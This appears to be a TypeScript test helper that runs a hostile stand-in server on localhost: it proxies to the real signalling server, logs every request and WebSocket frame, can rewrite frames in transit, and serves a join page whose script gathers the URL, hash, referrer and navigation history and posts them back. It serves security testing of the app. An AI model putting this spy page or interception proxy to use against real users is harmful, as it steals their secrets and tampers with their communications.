import { createServer, type IncomingMessage, request, type Server, type ServerResponse } from 'node:http';
import { type RawData, WebSocket, WebSocketServer } from 'ws';
import { freePort, startServerProcess } from '../../../scripts/lib/server.mjs';

/** What a hostile page can find out about the address it was reached by, sent home. */
const SPY_PAGE = `<!doctype html><title>Join</title><script src="/spy.js"></script>`;
const SPY_SCRIPT = `
const entries = performance.getEntriesByType('navigation').map((entry) => entry.toJSON());
const visited = globalThis.navigation?.entries?.().map(({ url }) => url) ?? [];
const found = { hash: location.hash, href: location.href, referrer: document.referrer, state: history.state, length: history.length, entries, visited };
fetch('/spied', { method: 'POST', body: JSON.stringify(found) }).then(() => { document.title = 'spied'; });
`;

export interface HostileServer {
  /** Everything it has ever received: request lines, headers, bodies, WebSocket frames. */
  received(): string;
  paths(): string[];
  close(): Promise<void>;
}

/**
 * Stands where the known server should be: passes everything on to a real one, so that people can meet, writes all of
 * it down, serves its own join page, and may change every signalling frame on its way.
 */
export async function startHostileServer(
  port: number,
  change: (frame: string) => string = (frame) => frame,
): Promise<HostileServer> {
  const upstream = await freePort();
  const behind = await startServerProcess({
    port: upstream,
    env: { ALLOWED_HOSTS: `localhost:${port},localhost:${upstream}` },
  });
  const log: string[] = [];
  const paths: string[] = [];
  const server = createServer((incoming, outgoing) => {
    paths.push(incoming.url ?? '');
    log.push(`${incoming.method} ${incoming.url} ${JSON.stringify(incoming.headers)}`);
    if (!answerItself(incoming, outgoing, log)) passOn(incoming, outgoing, upstream, log);
  });
  const sockets = bridgeSockets(server, upstream, log, change);
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    received: () => log.join('\n'),
    paths: () => [...paths],
    async close() {
      for (const client of sockets.clients) client.terminate();
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
      await behind.kill();
    },
  };
}

function answerItself(incoming: IncomingMessage, outgoing: ServerResponse, log: string[]): boolean {
  const path = incoming.url ?? '';
  if (path === '/spied') {
    incoming.on('data', (part) => log.push(String(part)));
    incoming.on('end', () => outgoing.end('ok'));
    return true;
  }
  const page = path.startsWith('/join') || path.startsWith('/later');
  if (!page && path !== '/spy.js') return false;
  outgoing.setHeader('content-type', page ? 'text/html' : 'text/javascript');
  outgoing.end(page ? SPY_PAGE : SPY_SCRIPT);
  return true;
}

function passOn(incoming: IncomingMessage, outgoing: ServerResponse, port: number, log: string[]): void {
  const { method, url, headers } = incoming;
  const onward = request({ host: '127.0.0.1', port, method, path: url, headers }, (answer) => {
    outgoing.writeHead(answer.statusCode ?? 500, answer.headers);
    answer.pipe(outgoing);
  });
  incoming.on('data', (part) => log.push(String(part)));
  incoming.pipe(onward);
  onward.on('error', () => outgoing.destroy());
}

function bridgeSockets(
  server: Server,
  upstream: number,
  log: string[],
  change: (frame: string) => string,
): WebSocketServer {
  const sockets = new WebSocketServer({ noServer: true });
  server.on('upgrade', (incoming, socket, head) => {
    log.push(`UPGRADE ${incoming.url} ${JSON.stringify(incoming.headers)}`);
    const { origin = '', host = '' } = incoming.headers;
    const onward = new WebSocket(`ws://127.0.0.1:${upstream}${incoming.url}`, { origin, headers: { host } });
    onward.once('error', () => socket.destroy());
    onward.once('open', () =>
      sockets.handleUpgrade(incoming, socket, head, (client) => bridge(client, onward, log, change)),
    );
  });
  return sockets;
}

function bridge(
  client: WebSocket,
  onward: WebSocket,
  log: string[],
  change: (frame: string) => string,
): void {
  const text = (data: RawData) => data.toString();
  client.on('message', (data) => {
    log.push(text(data));
    onward.send(text(data));
  });
  onward.on('message', (data) => client.send(change(text(data))));
  client.on('close', () => onward.close());
  onward.on('close', () => client.close());
}
